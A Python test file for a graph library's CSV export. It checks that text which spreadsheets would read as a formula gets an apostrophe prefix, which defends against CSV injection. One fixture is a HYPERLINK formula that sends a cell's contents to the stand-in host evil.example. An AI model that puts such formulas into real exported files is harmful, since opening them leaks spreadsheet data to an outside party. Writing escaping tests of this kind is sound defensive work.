"""CSV that a spreadsheet opens: no text of a graph is a formula there, and nothing is lost when written exactly."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pramana.graph import Edge, Node
from pramana.graph.io import ListedGraph, read_graph, shown_in_cells, write_graph

FORMULA = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TEXTS = st.text("=+-@\t\r\n;|,'\" a1\uff1d", max_size=12)

SHOWN = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1 555", "'+1 555"),
    ("-1-1", "'-1-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    ("Rama; =1", "Rama; '=1"),
    ("Rama|@x", "Rama|'@x"),
    ("Rama\n-1-1", "Rama\n'-1-1"),
    ('Rama;"=1"', 'Rama;"\'=1"'),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("'=1", "''=1"),
    ("1=1", "1=1"),
    ("It's a well-known fact", "It's a well-known fact"),
    ("Rama, -1", "Rama, -1"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "shown"), SHOWN)
def test_a_formula_gets_an_apostrophe(text: str, shown: str) -> None:
    """At the start of a cell, and after what ends a cell for a program that is not set to commas."""
    assert shown_in_cells(text) == shown


def cells(line: str, delimiter: str) -> list[str]:
    """Return the cells that a program with this separator sees."""
    return [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter) for cell in row]


@given(TEXTS, TEXTS)
@example("a;'=1", "a;=1")
@settings(max_examples=300)
def test_different_texts_stay_different(one: str, other: str) -> None:
    """So ids stay unique, and edges find their nodes."""
    assert (shown_in_cells(one) == shown_in_cells(other)) == (one == other)


def graph(text: str) -> ListedGraph:
    nodes = (Node(f"{text}a", text or "T", {"x": text, text or "y": [text], "n": -1.5}), Node("b", "T", {}))
    return ListedGraph(nodes, (Edge(f"{text}a", text or "R", "b", {"x": text}),))


@given(TEXTS)
@settings(max_examples=150)
def test_no_cell_is_a_formula(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    """Neither a name of a column, nor an id, a type, a relation, a text or a list; numbers stay numbers."""
    folder = tmp_path_factory.mktemp("csv")
    for file in write_graph(graph(text), folder / "g.csv"):
        found = cells(file.read_bytes().decode(), ",")
        assert all(NUMBER.fullmatch(cell) or not FORMULA.match(cell) for cell in found)
    assert "-1.5" in cells((folder / "g.nodes.csv").read_bytes().decode(), ",")


@pytest.mark.parametrize("text", [text for text, _ in SHOWN if text])
def test_an_import_takes_nothing_off_and_an_exact_export_adds_nothing(tmp_path: Path, text: str) -> None:
    """What is read is what the file says."""
    source = ListedGraph((Node(text, "T", {"x": text}), Node("b", "T", {})), (Edge(text, "R", "b", {}),))
    write_graph(source, tmp_path / "shown.csv")
    write_graph(source, tmp_path / "exact.csv", exact=True)
    shown, exact = (read_graph(tmp_path / f"{name}.csv").nodes[0] for name in ("shown", "exact"))
    assert (exact.id, exact.properties) == (text, {"x": text})
    assert (shown.id, shown.properties) == (shown_in_cells(text), {"x": shown_in_cells(text)})
